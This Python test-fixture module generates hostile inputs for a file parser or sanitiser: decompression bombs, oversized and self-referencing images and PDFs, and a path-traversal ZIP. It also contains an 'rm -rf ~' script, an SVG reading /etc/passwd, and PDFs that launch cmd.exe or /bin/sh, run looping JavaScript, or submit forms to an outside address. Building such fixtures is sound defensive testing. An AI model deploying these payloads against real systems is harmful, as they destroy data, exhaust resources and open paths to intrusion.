# SPDX-License-Identifier: AGPL-3.0-or-later
"""Hostile files, made when they are asked for: bombs, lies, loops, stumps, other kinds, active content.

`HOSTILE` maps a name to how it is made and what must come of it: the codes with which it may be refused,
and `CLEAN` where it may also be shown, as nothing but pixels.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

import pikepdf
from PIL import Image

from . import papers
from .papers import flated, grey_tiff, page_pdf, pdf, png_chunk, png_of, squeezed, stream

CLEAN = "clean"


@dataclass(frozen=True)
class Hostile:
    make: Callable[[], bytes]
    allowed: frozenset[str]
    flags: frozenset[str] = frozenset()


HOSTILE: dict[str, Hostile] = {}


def hostile(name: str, *allowed: str, flags: tuple[str, ...] = ()) -> Callable[..., Callable[[], bytes]]:
    def keep(make: Callable[[], bytes]) -> Callable[[], bytes]:
        assert name not in HOSTILE
        HOSTILE[name] = Hostile(make, frozenset(allowed), frozenset(flags))
        return make

    return keep


def fixed(name: str, data: bytes, *allowed: str) -> None:
    hostile(name, *allowed)(lambda: data)


# Other kinds, whatever they are called

OTHER_KINDS = {
    "JPEG 2000": b"\x00\x00\x00\x0cjP  \r\n\x87\n" + bytes(40),
    "JPEG XL": b"\xff\x0a" + bytes(40),
    "BigTIFF": b"II+\x00\x08\x00\x00\x00" + bytes(40),
    "AVIF": b"\x00\x00\x00\x1cftypavif\x00\x00\x00\x00avifmif1miaf" + bytes(40),
    "PostScript": b"%!PS-Adobe-3.0\n(%stdin) (r) file\n",
    "BMP": b"BM" + bytes(60),
    "RTF": b"{\\rtf1 some text}",
    "Photoshop": b"8BPS\x00\x01" + bytes(40),
    "GIF": b"GIF89a" + bytes(40),
}

fixed("nothing", b"", "empty")
for _name, _data in {
    "a program for Windows": b"MZ\x90\x00" + bytes(500),
    "a program for Linux": b"\x7fELF\x02\x01\x01" + bytes(500),
    "a script": b"#!/bin/sh\nrm -rf ~\n",
    "a script that is a PDF further down": b"#!/bin/sh\nexit\n%PDF-1.7\n",
    "HTML": b"<!DOCTYPE html><script>alert(1)</script>",
    "HTML that is a PDF further down": b"<html><script>1</script>%PDF-1.7\n" + bytes(100),
    "SVG": b'<svg xmlns="http://www.w3.org/2000/svg"><image href="file:///etc/passwd"/></svg>',
    "XML with entities": b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "bb">]><a>&b;</a>',
    "a film": b"\x00\x00\x00\x18ftypisom\x00\x00\x02\x00isommp41" + bytes(40),
    "brands beyond the end": b"\xff\xff\xff\xf0ftypheic" + bytes(40),
    "brands of no length": b"\x00\x00\x00\x00ftypheic" + bytes(40),
    "zeros": bytes(100_000),
    "text": b"%PDF is what I am called" * 50,
    "a compound document": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500),
    "two bytes of a JPEG": b"\xff\xd8",
}.items():
    fixed(_name, _data, "unknown_kind")


for _name, _data in OTHER_KINDS.items():
    fixed(_name, _data, "other_kind")


@hostile("a ZIP", "unknown_kind")
def _zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("../../evil.jpg", papers.jpeg())
    return out.getvalue()


@hostile("a GIF of 301 pictures", "other_kind")
def _gif() -> bytes:
    frames = [Image.new("L", (9, 9), shade % 255) for shade in range(301)]
    return papers.saved(frames[0], "GIF", save_all=True, append_images=frames[1:])


# PNG


@hostile("PNG of 30,000 x 30,000", "too_many_pixels")
def _png_bomb() -> bytes:
    return png_of(30_000, 30_000, png_chunk(b"IDAT", squeezed(bytes(30_001), 300)))


fixed("PNG of 2^31 - 1", png_of(2**31 - 1, 2**31 - 1, png_chunk(b"IDAT", b"")), "too_many_pixels", "damaged")
fixed("PNG of 2^32 - 1", png_of(2**32 - 1, 2**32 - 1, png_chunk(b"IDAT", b"")), "too_many_pixels", "damaged")
fixed("PNG without width", png_of(0, 10, png_chunk(b"IDAT", b"")), "damaged")
fixed("PNG without height", png_of(10, 0, png_chunk(b"IDAT", b"")), "damaged")
fixed("PNG long and thin", png_of(1, 49_000_000, png_chunk(b"IDAT", b"")), "too_many_pixels")
fixed(
    "PNG with a text of 200 MB, it says",
    png_of(10, 10, png_chunk(b"tEXt", b"a\x00b", declared=200 * 2**20), png_chunk(b"IDAT", b"")),
    "damaged",
)
fixed("PNG without pixels", png_of(10, 10), "damaged")
fixed("PNG of noise", png_of(50, 50, png_chunk(b"IDAT", bytes(range(256)) * 9)), "damaged")
fixed("PNG of an unknown colour", png_of(5, 5, png_chunk(b"IDAT", b"x"), colour=77), "damaged")
fixed("PNG with a false sum", png_of(10, 10)[:29] + b"\x00\x00\x00\x00" + png_of(10, 10)[33:], "damaged")
fixed("PNG that ends in its header", papers.png()[:20], "damaged")
fixed("PNG cut in the middle", papers.png()[: len(papers.png()) // 2], "damaged")
fixed("PNG cut before its end", papers.png()[:-30], "damaged")
fixed("PNG and a ZIP", papers.png() + b"PK\x05\x06" + bytes(18), CLEAN)


@hostile("PNG whose text unpacks to 100 MB", "damaged", CLEAN)
def _png_text_bomb() -> bytes:
    text = png_chunk(b"zTXt", b"note\x00\x00" + squeezed(bytes(2**20), 100))
    return papers.png()[:33] + text + papers.png()[33:]


@hostile("PNG whose colours unpack to 100 MB", "damaged", CLEAN)
def _png_profile_bomb() -> bytes:
    profile = png_chunk(b"iCCP", b"icc\x00\x00" + squeezed(bytes(2**20), 100))
    return papers.png()[:33] + profile + papers.png()[33:]


@hostile("PNG whose pixels unpack to 200 MB", "damaged", CLEAN)
def _png_pixel_bomb() -> bytes:
    return png_of(10, 10, png_chunk(b"IDAT", squeezed(bytes(2**20), 200)))


@hostile("PNG of 2,000 moving pictures", "too_many_pages")
def _apng() -> bytes:
    moving = png_chunk(b"acTL", struct.pack("!II", 2000, 0))
    return papers.png()[:33] + moving + papers.png()[33:]


# JPEG


def _jpeg_sized(width: int, height: int) -> bytes:
    data = bytearray(papers.jpeg())
    at = data.index(b"\xff\xc0") + 5
    data[at : at + 4] = struct.pack("!HH", height, width)
    return bytes(data)


fixed("JPEG of 65,535 x 65,535", _jpeg_sized(65_535, 65_535), "too_many_pixels")
fixed("JPEG of 7,000 x 7,000 in 2 kB", _jpeg_sized(7000, 7000), "damaged", CLEAN)
fixed("JPEG without width", _jpeg_sized(0, 80), "damaged")
fixed("JPEG without height", _jpeg_sized(120, 0), "damaged")
for _part in (4, 30, 200, 50, 90):
    _whole = papers.jpeg()
    _size = _part if _part > 100 or _part < 40 else len(_whole) * _part // 100
    fixed(f"JPEG cut at {_size} bytes", _whole[:_size], "damaged")
fixed("JPEG without its last mark", papers.jpeg()[:-2], "damaged", CLEAN)
fixed("JPEG of marks only", b"\xff\xd8" + b"\xff\xd9" * 500, "damaged")
fixed("JPEG of starts only", b"\xff\xd8\xff\xd8" * 5000, "damaged")
fixed("JPEG with a segment of no length", b"\xff\xd8\xff\xe0\x00\x00" + papers.jpeg()[2:], "damaged", CLEAN)
fixed("JPEG with a comment beyond its end", b"\xff\xd8\xff\xfe\xff\xff" + bytes(9), "damaged")
fixed("JPEG and a ZIP", papers.jpeg() + b"PK\x03\x04" + b"evil" * 99, CLEAN)
fixed("JPEG with a page of HTML", papers.jpeg(comment=b"<script>alert(1)</script>"), CLEAN)
fixed(
    "JPEG with many pictures, it says",
    papers.exif([], b"") + b"\xff\xe2\x00\x08MPF\x00\x00\x00",
    "damaged",
    CLEAN,
)


@hostile("JPEG of ever more scans", "too_slow", CLEAN)
def _jpeg_scans() -> bytes:
    # 36 megapixels, refined again and again: a few megabytes keep a decoder busy for minutes.
    whole = papers.saved(Image.new("L", (6000, 6000), 128), "JPEG", progressive=True)
    marks = [at for at in range(len(whole) - 1) if whole[at : at + 2] == b"\xff\xda"]
    scan = whole[marks[1] : marks[2]]
    # Tables that stand between scans stay before the first of them.
    return whole[: marks[2]] + scan * 400 + whole[marks[2] :]


LONG, ASCII, RATIONAL = 4, 2, 5
fixed("EXIF outside the file", papers.exif([(0x8769, LONG, 1, 0xFFFFFF00)]), CLEAN)
fixed("EXIF in a circle", papers.exif([(0x8769, LONG, 1, 8), (0x8825, LONG, 1, 8)], following=8), CLEAN)
fixed("EXIF of four thousand million letters", papers.exif([(0x010E, ASCII, 0xFFFFFFFF, 8)]), CLEAN)
fixed("EXIF of unknown types", papers.exif([(0x0112, 99, 7, 1), (0x8769, 0, 0, 0)]), CLEAN)
fixed("EXIF held in no known way", papers.exif([(0x0112, 3, 1, 4711)]), CLEAN)


@hostile("EXIF whose place is no number", CLEAN)
def _exif_nan() -> bytes:
    gps = struct.pack("<H", 4)
    base = 8 + 2 + 12 + 4
    ratios = base + 2 + 4 * 12 + 4
    gps += struct.pack("<HHI4s", 1, ASCII, 2, b"N\x00\x00\x00") + struct.pack("<HHII", 2, RATIONAL, 3, ratios)
    gps += struct.pack("<HHI4s", 3, ASCII, 2, b"W\x00\x00\x00") + struct.pack("<HHII", 4, RATIONAL, 3, ratios)
    gps += struct.pack("<I", 0) + struct.pack("<6I", 0, 0, 1, 0, 0, 0)
    return papers.exif([(0x8825, LONG, 1, base)], gps)


# TIFF

fixed("TIFF of 301 pictures", papers.tiff(301), "too_many_pages")
fixed("TIFF in a circle", grey_tiff(8, 8, following=8), CLEAN, "too_many_pages", "damaged")
fixed("TIFF of 2^31", grey_tiff(2**31, 2**31), "too_many_pixels", "damaged")
fixed("TIFF of 30,000 x 30,000", grey_tiff(30_000, 30_000), "too_many_pixels")
fixed("TIFF without width", grey_tiff(0, 8), "damaged")
fixed("TIFF without height", grey_tiff(8, 0), "damaged")
fixed("TIFF with its pixels elsewhere", grey_tiff(8, 8, t273=0xFFFFFFF0), "damaged")
fixed("TIFF with its directory elsewhere", b"II*\x00\xf0\xff\xff\xff" + bytes(50), "damaged")
fixed("TIFF of 65,535 fields", b"II*\x00\x08\x00\x00\x00\xff\xff" + bytes(50), "damaged")
fixed("TIFF packed in no known way", grey_tiff(8, 8, t259=4711), "damaged")
fixed("TIFF packed as noise", grey_tiff(8, 8, t259=5), "damaged", CLEAN)
fixed("TIFF of 4,000 bits", grey_tiff(8, 8, t258=4000), "damaged")
fixed("TIFF cut at 9 bytes", papers.tiff()[:9], "damaged")
fixed("TIFF cut in the middle", papers.tiff(compression="tiff_lzw")[:400], "damaged")
fixed("TIFF of fields without end", papers.tiff_of([(256, 4, 0xFFFFFFFF, 8)] * 3), "damaged")


# HEIC


def _heic_sized(width: int, height: int) -> bytes:
    data = bytearray(papers.heic())
    at = data.index(b"ispe") + 8
    data[at : at + 8] = struct.pack("!II", width, height)
    return bytes(data)


fixed("HEIC of noise", papers.heic()[:32] + bytes(range(256)) * 40, "damaged")
fixed("HEIC cut in its head", papers.heic()[:60], "damaged")
fixed("HEIC cut in the middle", papers.heic()[: len(papers.heic()) * 2 // 3], "damaged")
fixed("HEIC of 2^31", _heic_sized(2**31 - 1, 2**31 - 1), "too_many_pixels", "damaged")
fixed("HEIC without width", _heic_sized(0, 80), "damaged")
fixed("HEIC with its boxes nested", papers.heic()[:32] + b"\x00\x00\x00\x00meta" * 3000, "damaged")


# PDF that does something by itself

fixed_flags = {
    "JavaScript": (b"/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>", b"", ("javascript",)),
    "JavaScript under another spelling": (b"/OpenAction<</S/J#61vaScript/J#53(1)>>", b"", ("javascript",)),
    "JavaScript by name": (
        b"/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(1)>>]>>>>",
        b"",
        ("javascript",),
    ),
    "Launch": (b"", b"/AA<</O<</S/Launch/F(cmd.exe)>>>>", ("launch",)),
    "an embedded file": (b"/Names<</EmbeddedFiles<</Names[(a)5 0 R]>>>>", b"", ("embedded_file",)),
    "a link": (b"", b"/Annots[<</Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(http://x)>>>>]", ("uri",)),
    "a form of XFA": (b"/AcroForm<</XFA 5 0 R/Fields[]>>", b"", ("xfa",)),
    "a form that is sent": (b"", b"/AA<</C<</S/SubmitForm/F(http://x)>>>>", ("other_action",)),
}
for _name, (_catalogue, _page, _flags) in fixed_flags.items():
    _data = page_pdf(stream(b"<xdp/>"), catalogue=_catalogue, page=_page)
    hostile(f"PDF with {_name}", CLEAN, flags=_flags)(lambda data=_data: data)


@hostile("PDF with JavaScript hidden in a packed object", CLEAN, flags=("javascript",))
def _hidden() -> bytes:
    document = pikepdf.open(io.BytesIO(page_pdf(catalogue=b"/OpenAction<</S/JavaScript/JS(1)>>")))
    out = io.BytesIO()
    document.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    assert b"JavaScript" not in out.getvalue()
    return out.getvalue()


# PDF that costs

NESTED = 100_000
fixed("PDF of arrays in arrays", page_pdf(b"[" * NESTED + b"]" * NESTED), "damaged", "too_slow", CLEAN)
fixed("PDF of dictionaries in dictionaries", page_pdf(b"<</A" * NESTED + b">>" * NESTED), "damaged", CLEAN)
fixed(
    "PDF whose pages hold each other",
    pdf(
        papers.CATALOGUE % b"",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Pages/Kids[2 0 R]/Count 1/Parent 2 0 R>>",
    ),
    "damaged",
)
fixed(
    "PDF whose page is its own form",
    page_pdf(
        stream(b"/F Do", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</F 5 0 R>>>>"),
        drawing=stream(b"/F Do"),
    ).replace(b"/Resources<<>>", b"/Resources<</XObject<</F 5 0 R>>>>"),
    "damaged",
    "reader_stopped",
    CLEAN,
)
fixed("PDF whose list of objects names itself", pdf(papers.CATALOGUE % b"", trailer=b"/Prev 9"), "damaged")
fixed("PDF of no pages", pdf(papers.CATALOGUE % b"", b"<</Type/Pages/Kids[]/Count 0>>"), "damaged")
fixed("PDF of 501 pages", papers.pages_pdf(501), "too_many_pages")
fixed("PDF of 20,000 pages", papers.pages_pdf(20_000), "too_many_pages")
fixed(
    "PDF of 2,000,000,000 pages, it says",
    papers.pages_pdf(2).replace(b"/Count 2", b"/Count 2000000000"),
    "damaged",
    "too_many_pages",
    CLEAN,
)


def _box(box: bytes) -> bytes:
    return page_pdf().replace(b"[0 0 300 200]", box)


fixed("PDF of ten million points", _box(b"[0 0 10000000 10000000]"), "too_many_pixels")
fixed("PDF without width", _box(b"[0 0 0 200]"), "damaged", CLEAN)
fixed("PDF of no number", _box(b"[0 0 1e400 nan]"), "damaged", "too_many_pixels", CLEAN)
fixed("PDF long and thin", _box(b"[0 0 1 14000]"), CLEAN)


@hostile(
    "PDF whose drawing unpacks to 600 MB", "reader_stopped", "too_slow", "too_much_memory", "damaged", CLEAN
)
def _content_bomb() -> bytes:
    return page_pdf(drawing=flated(squeezed(b"0 0 m 9 9 l S\n" * 75_000, 600)))


@hostile("PDF whose drawing unpacks twice", "reader_stopped", "too_slow", "too_much_memory", "damaged", CLEAN)
def _double() -> bytes:
    inner = squeezed(bytes(2**20), 900)
    return page_pdf(drawing=flated(zlib.compress(inner), filters=b"[/FlateDecode/FlateDecode]"))


@hostile("PDF whose picture is 30,000 x 30,000", "reader_stopped", "too_slow", "too_much_memory", CLEAN)
def _picture_bomb() -> bytes:
    image = flated(
        zlib.compress(bytes(1000)),
        b"/Type/XObject/Subtype/Image/Width 30000/Height 30000/BitsPerComponent 8/ColorSpace/DeviceRGB",
    )
    whole = page_pdf(image, drawing=stream(b"300 0 0 200 0 0 cm /F Do"))
    return whole.replace(b"/Resources<<>>", b"/Resources<</XObject<</F 5 0 R>>>>")


@hostile(
    "PDF whose objects unpack to 500 MB", "too_slow", "too_much_memory", "damaged", "reader_stopped", CLEAN
)
def _object_bomb() -> bytes:
    packed = flated(squeezed(b" " * 2**20, 500), b"/Type/ObjStm/N 1/First 400")
    return page_pdf(packed)


# Forms

BOX = b"10 10 90 40"
fixed(
    "form of 20,000 fields",
    papers.form_pdf(*(papers.field(b"f%d" % at, b"Tx", BOX, b"/V(a)") for at in range(20_000))),
    "reader_stopped",
    "too_slow",
    "too_much_memory",
    CLEAN,
)
fixed("form whose field is its own child", papers.form_pdf(b"<</T(a)/Kids[6 0 R]/Parent 6 0 R>>"), CLEAN)
fixed(
    "form whose fields are each other's parents",
    papers.form_pdf(
        papers.field(b"a", b"Tx", BOX, b"/Parent 7 0 R/Kids[7 0 R]"),
        papers.field(b"b", b"Tx", BOX, b"/Parent 6 0 R/Kids[6 0 R]"),
    ),
    CLEAN,
)
fixed(
    "form of fields 5,000 deep",
    papers.form_pdf(
        *(b"<</T(a)/Parent %d 0 R/Kids[%d 0 R]>>" % (5 + at, 7 + at) for at in range(5_000)),
        others=(papers.field(b"z", b"Tx", BOX, b"/Parent 5005 0 R/V(a)"),),
    ),
    "reader_stopped",
    "damaged",
    CLEAN,
)
fixed(
    "form whose appearance draws itself",
    papers.form_pdf(
        papers.field(b"a", b"Tx", BOX, b"/AP<</N 7 0 R>>"),
        others=(
            stream(b"/X Do", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 7 0 R>>>>"),
        ),
    ),
    CLEAN,
)


BOMB = ("reader_stopped", "too_slow", "too_much_memory", "damaged", CLEAN)


@hostile("form whose appearance unpacks to 600 MB", *BOMB)
def _appearance_bomb() -> bytes:
    entries = b"/Type/XObject/Subtype/Form/BBox[0 0 80 30]"
    return papers.form_pdf(
        papers.field(b"a", b"Tx", BOX, b"/AP<</N 7 0 R>>"),
        others=(flated(squeezed(b"0 0 m 9 9 l S\n" * 75_000, 600), entries),),
    )


fixed(
    "form whose value is 30 MB long",
    papers.form_pdf(
        papers.field(b"a", b"Tx", BOX, b"/DA(/He 0 Tf 0 g)/Ff 4096/V(" + b"word " * 6_000_000 + b")"),
        form=b"/NeedAppearances true",
    ),
    "reader_stopped",
    "too_slow",
    "too_much_memory",
    CLEAN,
)
for _name, _data in {
    "no dictionary": b"/AcroForm 4711",
    "nothing": b"/AcroForm 99 0 R",
    "fields that are a number": b"/AcroForm<</Fields 7>>",
    "fields that are no fields": b"/AcroForm<</Fields[1(a)null<<>>[]4 0 R 99 0 R]/DR 1/DA 2/CO[9 0 R]>>",
    "itself as its fields": b"/AcroForm 1 0 R",
}.items():
    fixed(f"form of {_name}", page_pdf(catalogue=_data), CLEAN)
fixed(
    "form whose fields are of no known kind",
    papers.form_pdf(
        papers.field(b"a", b"Zz", BOX, b"/V<</V 1>>/AP 7/MK 3/DA 9/Opt 5/MaxLen -1/Q 77"),
        papers.field(b"b", b"Ch", BOX, b"/Opt[[[[]]]]/I[99999999]/V[[[]]]/TI 99999999"),
        papers.field(b"c", b"Btn", b"1e30 -1e30 1e38 nan", b"/AS/Zz/AP<</N<</On 4 0 R>>>>"),
        papers.field(b"d", b"Sig", BOX, b"/V 1 0 R/Lock 6 0 R"),
    ),
    CLEAN,
)
_SCRIPT = b"<</S/JavaScript/JS(while(true){app.alert(1)})>>"
hostile("form that calculates for ever", CLEAN, flags=("javascript",))(
    lambda: papers.form_pdf(
        papers.field(
            b"a",
            b"Tx",
            BOX,
            b"/V(1)/A %s/AA<</C %s/F %s/K %s/V %s/Fo %s/PO %s/PV %s>>" % ((_SCRIPT,) * 8),
        ),
        form=b"/CO[6 0 R]/NeedAppearances true",
        more=b"/OpenAction %s/AA<</WC %s/WS %s>>" % ((_SCRIPT,) * 3),
    )
)
hostile("form that sends itself away", CLEAN, flags=("other_action", "launch"))(
    lambda: papers.form_pdf(
        papers.field(b"a", b"Btn", BOX, b"/Ff 65536/A<</S/SubmitForm/F(http://192.0.2.1/)>>"),
        more=b"/OpenAction<</S/Launch/F(/bin/sh)/Next<</S/ImportData/F(a.fdf)>>>>",
    )
)
hostile("form in XFA", CLEAN, flags=("xfa",))(
    lambda: papers.form_pdf(
        papers.field(b"a", b"Tx", BOX, b"/V(a)"),
        form=b"/XFA 7 0 R",
        others=(stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><template/></xdp:xdp>"),),
        more=b"/NeedsRendering true",
    )
)


# WebP


def _webp_sized(width: int, height: int) -> bytes:
    sizes = (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
    head = b"VP8X\x0a\x00\x00\x00" + bytes(4) + sizes
    return b"RIFF" + struct.pack("<I", len(head) + 4 + 60) + b"WEBP" + head + papers.webp()[12:]


fixed("WebP of 16,384 x 16,384", _webp_sized(16_384, 16_384), "too_many_pixels")
fixed("WebP of another size than it says", _webp_sized(3000, 3000), "damaged", CLEAN)
fixed("WebP of noise", b"RIFF\x24\x00\x00\x00WEBPVP8 " + bytes(range(1, 200)), "damaged", "too_many_pixels")
fixed("WebP cut in its head", papers.webp()[:22], "damaged")
fixed("WebP cut in the middle", papers.webp()[: len(papers.webp()) * 2 // 3], "damaged", CLEAN)


@hostile("WebP of 301 pictures", "too_many_pages")
def _webp_film() -> bytes:
    frames = [Image.new("L", (9, 9), shade % 255) for shade in range(301)]
    return papers.saved(frames[0], "WEBP", save_all=True, append_images=frames[1:])


# PDF that is locked or broken


def _locked(**words: str) -> bytes:
    document = pikepdf.open(io.BytesIO(page_pdf()))
    out = io.BytesIO()
    document.save(out, encryption=pikepdf.Encryption(**words))
    return out.getvalue()


hostile("PDF with a password", "encrypted")(lambda: _locked(owner="o", user="u", R=6))
hostile("PDF that only forbids", CLEAN)(lambda: _locked(owner="o", user="", R=4))
fixed("PDF of its first line", b"%PDF-1.7\n", "damaged")
for _part in (20, 50, 80, 97):
    _whole = page_pdf()
    fixed(f"PDF cut at {_part} of 100", _whole[: len(_whole) * _part // 100], "damaged", CLEAN)
fixed("PDF of noise", b"%PDF-1.7\n" + bytes(range(256)) * 99, "damaged")
fixed("PDF and a ZIP", page_pdf() + b"PK\x03\x04evil", CLEAN)
fixed("PDF with a false list of objects", page_pdf().replace(b"startxref\n", b"startxref\n9"), CLEAN)
